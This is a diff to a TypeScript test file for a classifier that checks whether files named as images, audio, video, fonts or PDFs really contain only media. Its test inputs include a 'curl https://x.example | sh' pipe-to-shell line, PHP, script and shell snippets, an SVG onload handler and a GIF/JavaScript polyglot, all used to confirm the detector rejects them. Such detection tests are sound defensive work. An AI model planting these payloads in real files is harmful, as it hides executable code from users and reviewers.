@@ -1,4 +1,5 @@
 import * as assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { certainContent, mayBeCertain } from '../../../../src/artifact/coverage/certainContent.ts';
 import { dependencyFolder, proofsFor } from '../../../../src/artifact/coverage/dependencyFolders.ts';
 import { hasBanner } from '../../../../src/artifact/coverage/generated.ts';
@@ -48,32 +49,73 @@ describe('a lock file', () => {
     });
 });
 
-const BINARY = '\0\x01\x02\x03\xff\xfe\0';
-const MEDIA: Readonly<Record<string, string>> = {
-  'a.png': `\x89PNG\r\n\x1a\n${BINARY}`,
-  'a.JPG': `\xff\xd8\xff\xe0${BINARY}`,
-  'a.gif': `GIF89a${BINARY}`,
-  'a.webp': `RIFF\x10\0\0\0WEBPVP8 ${BINARY}`,
-  'a.mp4': `\0\0\0\x18ftypisom${BINARY}`,
-  'a.mp3': `ID3\x03${BINARY}`,
-  'a.wav': `RIFF\x10\0\0\0WAVEfmt ${BINARY}`,
-  'a.woff2': `wOF2${BINARY}`,
-  'a.ttf': `\0\x01\0\0${BINARY}`,
-  'docs/a.pdf': `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${BINARY}`,
-  'favicon.ico': `\0\0\x01\0${BINARY}`,
+const sample = (name: string): Buffer => readFileSync(new URL(`../../../fixtures/media/${name}`, import.meta.url));
+const font = (name: string): Buffer =>
+  readFileSync(new URL(`../../../../node_modules/js-md4/doc/fonts/OpenSans-Bold-webfont.${name}`, import.meta.url));
+const u16 = (...values: readonly number[]): Buffer => Buffer.from(values.flatMap((value) => [value >> 8, value & 255]));
+const u32 = (value: number): Buffer => u16(value >>> 16, value & 0xffff);
+const box = (name: string, content: Uint8Array): Buffer =>
+  Buffer.concat([u32(content.length + 8), bytes(name), content]);
+const noise = Buffer.from(Array.from({ length: 500 }, (_, index) => (index * index * 31) % 251));
+/** A frame of MPEG 1, layer III, with 128 kbit/s at 44.1 kHz: 417 bytes. */
+const frame = Buffer.concat([u16(0xfffb, 0x9000), noise.subarray(0, 413)]);
+const entry = Buffer.from([16, 16, 0, 0, 1, 0, 32, 0]);
+const little = (value: number): Buffer => u32(value).reverse();
+const png = sample('python.png');
+
+/** From real programs where they are files, else put together as the format says. */
+const MEDIA: Readonly<Record<string, Buffer>> = {
+  'a.png': png,
+  'a.JPG': sample('python.jpg'),
+  'a.gif': sample('idle_16.gif'),
+  'a.webp': sample('python.webp'),
+  'a.bmp': sample('python.bmp'),
+  'a.wav': sample('pluck-pcm8.wav'),
+  'a.woff': font('woff'),
+  'a.eot': font('eot'),
+  'a.mp4': Buffer.concat([box('ftyp', bytes('isom\0\0\0\0')), box('moov', noise), box('mdat', noise)]),
+  'a.mp3': Buffer.concat([bytes('ID3\x03\0\0\0\0\0\x02\0\0'), frame, frame]),
+  'a.ogg': Buffer.concat([bytes('OggS'), Buffer.alloc(22), Buffer.from([2, 255, 245]), noise]),
+  'a.mid': Buffer.concat([bytes('MThd'), u32(6), u16(0, 1, 96), bytes('MTrk'), u32(4), Buffer.from([0, 255, 47, 0])]),
+  'favicon.ico': Buffer.concat([u16(0, 0x100, 0x100), entry, little(png.length), little(22), png]),
+  'docs/a.pdf': Buffer.from(
+    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\nxref\n0 1\ntrailer\n<<>>\nstartxref\n35\n%%EOF\n',
+    'latin1',
+  ),
 };
 
 describe('a picture, sound, film, font or PDF', () => {
   for (const [name, content] of Object.entries(MEDIA)) {
-    it(`${name} is one by name and content`, () => assert.equal(certainContent(name, bytes(content)), 'media'));
-    it(`${name} is none with the content of another, or under another name`, () => {
-      assert.equal(certainContent(name, bytes(`MZ${BINARY}${BINARY}${BINARY}`)), null);
-      assert.equal(certainContent(`${name}.ts`, bytes(content)), null);
+    it(`${name} is one by name and content`, () => assert.equal(certainContent(name, content), 'media'));
+    it(`${name} is none under another name`, () => assert.equal(certainContent(`${name}.ts`, content), null));
+    it(`${name} is none with something behind its end, without its end, or by its beginning alone`, () => {
+      const last = name.endsWith('.pdf') ? 8 : 1;
+      for (const changed of [
+        Buffer.concat([content, bytes('\nrequire("x").run()\n')]),
+        Buffer.concat([content, noise]),
+        content.subarray(0, -last),
+        Buffer.concat([content.subarray(0, 12), bytes(';curl https://x.example | sh\n\xff')]),
+      ])
+        assert.equal(certainContent(name, changed), null);
+    });
+    it(`${name} is none with code of an interpreter in it`, () => {
+      for (const code of ['<?php x(); ?>', '<SCRIPT>x()</SCRIPT>', '\n#!/bin/sh\n']) {
+        const changed = Buffer.from(content);
+        changed.set(bytes(code), Math.max(0, Math.min(content.length - 60, 100)));
+        assert.equal(certainContent(name, changed), null);
+      }
     });
   }
   it('is text when it goes on as text, and so is an SVG', () => {
     assert.equal(certainContent('a.gif', bytes('GIF89a="\0";\neval(x)\n')), null);
     assert.equal(certainContent('a.svg', bytes('<svg onload="x()"/>')), null);
+  });
+  it('is none by a few letters that a program begins with as well', () => {
+    assert.equal(certainContent('a.bmp', bytes('BM=1;curl https://x.example | sh\n\xff')), null);
+    assert.equal(certainContent('a.ttf', bytes('true;curl https://x.example | sh\n\xff')), null);
+    assert.equal(certainContent('a.pdf', bytes('%PDF-1.7\n\xff<?php x();')), null);
+    const polyglot = 'GIF89a/*\x01\0\0\0\0!\xfe\x0c*/=1;eval(x)\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\0;';
+    assert.equal(certainContent('a.gif', bytes(polyglot)), null);
   });
 });
 
